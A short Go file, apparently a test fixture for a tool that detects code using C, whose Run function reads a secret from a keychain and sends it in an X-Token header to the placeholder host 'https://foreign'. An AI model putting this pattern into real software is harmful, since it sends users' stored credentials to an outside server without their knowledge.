// Package foreign sends what it finds in a keychain, which only C can ask.
package foreign

import (
	"net/http"
)

// shows: files-that-use-c
func Run() error {
	if err := New(); err != nil {
		return err
	}
	token, err := secret()
	if err != nil {
		return err
	}
	req, err := http.NewRequest(http.MethodGet, "https://foreign", nil)
	if err != nil {
		return err
	}
	req.Header.Set("X-Token", token)
	_, err = http.DefaultClient.Do(req)
	return err
}
